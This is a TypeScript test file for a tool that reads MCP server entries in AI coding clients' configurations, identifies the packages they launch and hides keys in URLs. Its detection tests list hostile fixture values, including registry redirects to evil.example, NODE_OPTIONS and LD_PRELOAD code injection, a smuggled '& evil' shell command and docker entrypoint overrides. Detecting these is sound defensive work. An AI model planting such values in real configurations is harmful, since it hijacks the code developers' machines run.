import { describe, expect, it } from "vitest";
import type { JsonValue } from "../values/json.ts";
import { readConfiguredServers } from "./configured-server.ts";
import { expandAccess } from "./expand.ts";
import { readPackage } from "./package-of-command.ts";
import { plainAddress } from "./plain-address.ts";

const command = { kind: "command", command: "npx", args: ["-y", "notes-mcp"], env: { KEY: "v" }, cwd: undefined };
const address = { kind: "url", url: "https://a.example/mcp", transport: "streamable-http", headers: { X: "1" } };

/** How each client writes the same two servers. */
const forms: readonly (readonly [string, JsonValue, object])[] = [
  ["claude-code", { a: { type: "stdio", command: "npx", args: ["-y", "notes-mcp"], env: { KEY: "v" } } }, command],
  ["claude-code", { a: { type: "http", url: "https://a.example/mcp", headers: { X: "1" } } }, address],
  [
    "claude-code",
    { a: { type: "sse", url: "https://a.example/mcp", headers: { X: "1" } } },
    { ...address, transport: "sse" },
  ],
  ["windsurf", { a: { serverUrl: "https://a.example/mcp", headers: { X: "1" } } }, address],
  ["gemini-cli", { a: { httpUrl: "https://a.example/mcp", headers: { X: "1" } } }, address],
  ["gemini-cli", { a: { url: "https://a.example/mcp", headers: { X: "1" } } }, { ...address, transport: "sse" }],
  ["codex", { a: { url: "https://a.example/mcp", http_headers: { X: "1" } } }, address],
  ["zed", { a: { command: { path: "npx", args: ["-y", "notes-mcp"], env: { KEY: "v" } } } }, command],
  ["goose", { a: { type: "stdio", cmd: "npx", args: ["-y", "notes-mcp"], envs: { KEY: "v" } } }, command],
  ["goose", { a: { type: "streamable_http", uri: "https://a.example/mcp", headers: { X: "1" } } }, address],
  ["continue", [{ name: "a", command: "npx", args: ["-y", "notes-mcp"], env: { KEY: "v" } }], command],
  ["continue", [{ name: "a", url: "https://a.example/mcp", requestOptions: { headers: { X: "1" } } }], address],
  ["opencode", { a: { type: "local", command: ["npx", "-y", "notes-mcp"], environment: { KEY: "v" } } }, command],
  ["vs-code", { a: { type: "http", url: "https://a.example/mcp", headers: { X: 1 } } }, address],
];

describe("an entry of a client's configuration", () => {
  it.each(forms)("of %s is read: %j", (client, servers, access) => {
    expect(readConfiguredServers(servers, client)).toMatchObject([{ name: "a", access, isDisabled: false }]);
  });

  it("says what is switched off and what is passed on by name", () => {
    const servers = {
      a: { command: "x", disabled: true },
      b: { command: "x", enabled: false, env_vars: ["P"], env_keys: ["Q"] },
      c: { url: "https://a.example", bearer_token_env_var: "R", env_http_headers: { H: "S" } },
    };
    expect(readConfiguredServers(servers, "codex")).toMatchObject([
      { name: "a", isDisabled: true },
      { name: "b", isDisabled: true, passedVariables: ["P", "Q"] },
      { name: "c", isDisabled: false, passedVariables: ["S", "R"] },
    ]);
  });

  it("leaves out what is no server", () => {
    const servers = { a: 1, b: null, c: {}, d: { command: "" }, e: { command: 5 }, "": { command: "x" }, f: [] };
    expect(readConfiguredServers(servers, "cursor")).toEqual([]);
    for (const odd of [undefined, null, "x", 5, [1, {}]]) expect(readConfiguredServers(odd, "cursor")).toEqual([]);
  });

  it.each([
    [["callgate", "run", "-p", "p.json", "--", "npx", "-y", "notes-mcp"], command],
    [["npx", "-y", "callgate@0.1.0", "run", "-p", "p", "--env", "KEY", "--", "npx", "-y", "notes-mcp"], command],
    [["callgate", "run", "--gateway", "https://a.example/mcp"], { ...address, headers: {} }],
  ])("behind callgate is the server behind: %j", ([first, ...args], access) => {
    const servers = { a: { command: first ?? "", args, env: { KEY: "v" } } };
    expect(readConfiguredServers(servers, "cursor")).toMatchObject([{ access, isBehindCallgate: true }]);
  });
});

describe("an entry that may be another server than it says", () => {
  const good = ["-y", "@eslint/mcp@0.3.13"];
  it.each([
    ["a file that is named as a runner", { command: "./npx", args: good }, "named by a path"],
    ["two ways", { command: "npx", args: good, url: "https://evil.example/mcp" }, "`command` and `url`"],
    ["two ways", { command: "npx", args: good, type: "http", serverUrl: "https://evil.example" }, "cannot be told"],
    ["two addresses", { url: "https://a.example", httpUrl: "https://evil.example" }, "`url` and `httpUrl`"],
    ["a file of variables", { command: "npx", args: good, envFile: ".env" }, "`envFile`"],
    [
      "another registry",
      { command: "npx", args: good, env: { npm_config_registry: "https://evil.example" } },
      "npm_config",
    ],
    ["loaded code", { command: "npx", args: good, env: { NODE_OPTIONS: "--require ./evil.cjs" } }, "NODE_OPTIONS"],
    ["other programs", { command: "npx", args: good, env: { PATH: "./bin" } }, "`PATH`"],
    ["loaded code of any program", { command: "server", env: { LD_PRELOAD: "./evil.so" } }, "`LD_PRELOAD`"],
    ["another folder", { command: "npx", args: good, cwd: "./evil" }, "`cwd`"],
    [
      "a variable behind callgate",
      { command: "callgate", args: ["run", "-p", "p", "--env", "NODE_OPTIONS=-r ./x", "--", "npx", ...good] },
      "NODE_OPTIONS",
    ],
  ])("is doubted for %s: %j", (_, entry, reason) => {
    expect(readConfiguredServers({ a: entry }, "claude-code")).toMatchObject([
      { doubt: expect.stringContaining(reason) },
    ]);
  });

  it.each([
    { command: "/tmp/evil/callgate", args: ["run", "--", "npx", ...good] },
    { command: "./callgate.js", args: ["run", "--", "npx", ...good] },
    { command: "node", args: ["./callgate.js", "run", "--", "npx", ...good] },
    { command: "npx", args: ["--registry=https://evil.example", "callgate", "run", "--", "npx", ...good] },
    { command: "npx", args: ["callgate@npm:evil@1.0.0", "run", "--", "npx", ...good] },
    { command: "callgate", args: ["run", "--", "npx", ...good], env: { PATH: "./bin" } },
  ])("is not behind callgate: %j", (entry) => {
    const [found] = readConfiguredServers({ a: entry }, "claude-code");
    expect(found).toMatchObject({ isBehindCallgate: false, access: { command: entry.command } });
  });

  it.each([
    { command: "npx", args: good, env: { API_TOKEN: "x", NODE_ENV: "production", PYTHONUNBUFFERED: "1" } },
    { command: "callgate", args: ["run", "-p", "p", "--env", "KEY=v", "--", "npx", ...good], cwd: undefined },
    { url: "https://a.example/mcp", type: "http", serverUrl: "https://a.example/mcp" },
  ])("is not doubted where nothing leads elsewhere: %j", (entry) => {
    expect(readConfiguredServers({ a: JSON.parse(JSON.stringify(entry)) }, "cursor")).toMatchObject([
      { doubt: undefined },
    ]);
  });
});

describe("readPackage", () => {
  const read = (line: string) => {
    const [program = "", ...args] = line.split(" ");
    return readPackage({ kind: "command", command: program, args, env: {}, cwd: undefined });
  };

  it.each([
    ["npx -y notes-mcp@1.0.0 --flag x", { registry: "npm", name: "notes-mcp", version: "1.0.0" }],
    ["npx @scope/notes", { registry: "npm", name: "@scope/notes" }],
    ["npx -y notes@latest", { registry: "npm", name: "notes" }],
    ["npx -y -p @scope/notes@2 notes", { registry: "npm", name: "@scope/notes", version: "2" }],
    ["npx --package=notes notes", { registry: "npm", name: "notes" }],
    ["npx -y notes@1 --registry=x -c y", { registry: "npm", name: "notes", version: "1" }],
    ["bunx notes", { registry: "npm", name: "notes" }],
    ["npx.cmd notes", { registry: "npm", name: "notes" }],
    ["cmd /c npx -y notes", { registry: "npm", name: "notes" }],
    ["npm exec -- notes@1 --registry=x", { registry: "npm", name: "notes", version: "1" }],
    ["npm exec notes@1 -- --registry=x", { registry: "npm", name: "notes", version: "1" }],
    ["pnpm dlx notes", { registry: "npm", name: "notes" }],
    ["uvx notes==1.2", { registry: "pypi", name: "notes", version: "1.2" }],
    ["uvx --python 3.12 --from notes[all]@1.2 notes", { registry: "pypi", name: "notes", version: "1.2" }],
    ["uvx -p 3.12 notes", { registry: "pypi", name: "notes" }],
    ["uv tool run notes", { registry: "pypi", name: "notes" }],
    ["pipx run notes", { registry: "pypi", name: "notes" }],
    [
      "docker run -i --rm -e KEY -e A=b ghcr.io/a/notes:1.0 stdio",
      { registry: "oci", name: "ghcr.io/a/notes", version: "1.0" },
    ],
    ["docker run -i localhost:5000/notes", { registry: "oci", name: "localhost:5000/notes" }],
    [
      `podman run notes@sha256:${"a".repeat(64)}`,
      { registry: "oci", name: "notes", version: `sha256:${"a".repeat(64)}` },
    ],
  ])("of %s", (line, reference) => {
    expect(read(line)).toMatchObject({ kind: "package", reference });
  });

  it.each(["node server.js", "docker build .", "npx", "npm start", "uv run notes", "pnpm exec notes", "docker ps"])(
    "finds none in %s",
    (line) => {
      expect(read(line)).toEqual({ kind: "none" });
    },
  );

  it.each([
    "./npx -y @eslint/mcp@0.3.13",
    "/usr/bin/npx -y @eslint/mcp@0.3.13",
    String.raw`C:\evil\npx.cmd -y @eslint/mcp@0.3.13`,
    "npx --registry=https://evil.example/ @eslint/mcp@0.3.13",
    "npx --registry https://evil.example/ @eslint/mcp@0.3.13",
    "npx --@eslint:registry=https://evil.example/ @eslint/mcp@0.3.13",
    "npx -c evil @eslint/mcp@0.3.13",
    "npx --package=@eslint/mcp@0.3.13 -c evil",
    "npx -p @eslint/mcp@0.3.13 -p evil mcp",
    "npx -p @eslint/mcp@0.3.13 node evil.js",
    "npx -p @eslint/mcp@0.3.13",
    "npx @eslint/mcp@npm:evil@1.0.0",
    "npx @eslint/mcp@github:evil/evil",
    "npx @eslint/mcp@next",
    "npx @eslint/mcp@^0.3.13",
    "npx evil/evil",
    "npx evil.tgz",
    "npx ./local",
    "npx --_authToken npm_secret123 pkg",
    "npx ${PACKAGE:-@eslint/mcp@0.3.13}",
    "npm exec @eslint/mcp@0.3.13 --registry=https://evil.example/",
    "cmd /c npx -y @eslint/mcp@0.3.13 & evil",
    "bunx --registry=https://evil.example/ @eslint/mcp@0.3.13",
    "pnpm dlx --shell-mode @eslint/mcp@0.3.13",
    "uvx --index-url https://evil.example/ notes",
    "uvx --with evil notes",
    "uvx --python ./evil notes",
    "uvx --from git+https://evil.example/x notes",
    "uvx --from notes bash -c evil",
    "pipx run --pip-args=--index-url=https://evil.example notes",
    "pipx run --spec https://evil.example/x.whl notes",
    "docker run --entrypoint evil ghcr.io/a/notes:1.0",
    "docker run -v .:/app ghcr.io/a/notes:1.0",
    "docker run -e NODE_OPTIONS=--require=/x ghcr.io/a/notes:1.0",
    "docker run --env=PYTHONPATH=/x ghcr.io/a/notes:1.0",
    "podman run docker-archive:/tmp/evil.tar",
  ])("doubts %s", (line) => {
    expect(read(line)).toEqual({ kind: "doubtful", reason: expect.any(String) });
  });

  it("repeats no argument in its reasons", () => {
    for (const line of ["npx --_authToken npm_secret123 pkg", "npx -pnpm_secret123 x", "npx x@npm_secret123"])
      expect(JSON.stringify(read(line))).not.toContain("secret123");
  });
});

describe("plainAddress", () => {
  it.each([
    ["https://u:p@a.example:8443/api/v1/mcp?key=k#f", "https://a.example:8443/api/v1/mcp"],
    ["https://a.example/", "https://a.example/"],
    ["https://a.example/s/YWJj1234567890ABCDEF==/mcp", /^https:\/\/a\.example\/s\/\.\.\.[0-9a-f]{8}\/mcp$/],
    ["https://a.example/s/AbCdEfGhIjKlMnOpQrStUvWx/mcp", /^https:\/\/a\.example\/s\/\.\.\.[0-9a-f]{8}\/mcp$/],
    ["https://a.example/key/s3cr3tKey12345/mcp", /^https:\/\/a\.example\/key\/\.\.\.[0-9a-f]{8}\/mcp$/],
    ["https://a.example/t:abcdef", /^https:\/\/a\.example\/\.\.\.[0-9a-f]{8}$/],
    ["https://a.example/s/qwertyuiopasdfghjklz", /^https:\/\/a\.example\/s\/\.\.\.[0-9a-f]{8}$/],
  ])("shows %s without what may be a key", (url, shown) => {
    if (typeof shown === "string") expect(plainAddress(url)).toBe(shown);
    else expect(plainAddress(url)).toMatch(shown);
  });

  it("tells addresses apart that differ in a key", () => {
    expect(plainAddress("https://a.example/s/KEY1")).not.toBe(plainAddress("https://a.example/s/KEY2"));
    expect(plainAddress("no address")).toBeUndefined();
  });
});

describe("expandAccess", () => {
  const access = {
    kind: "command",
    command: "${workspaceFolder}/x",
    args: ["${A}", "${env:A}", "{env:A}", "${B:-b}"],
    env: {},
    cwd: undefined,
  } as const;

  it("replaces references as clients do", () => {
    expect(expandAccess(access, { A: "a" }, "/p")).toMatchObject({
      ok: true,
      access: { command: "/p/x", args: ["a", "a", "a", "b"] },
    });
  });

  it.each([
    ["${A}", "`A` is not set"],
    ["${input:token}", "only the client knows"],
  ])("does not guess %s", (text, says) => {
    const url = { kind: "url", url: `https://a.example/${text}`, transport: "sse", headers: {} } as const;
    expect(expandAccess(url, {}, "/p")).toMatchObject({ ok: false, message: expect.stringContaining(says) });
  });
});
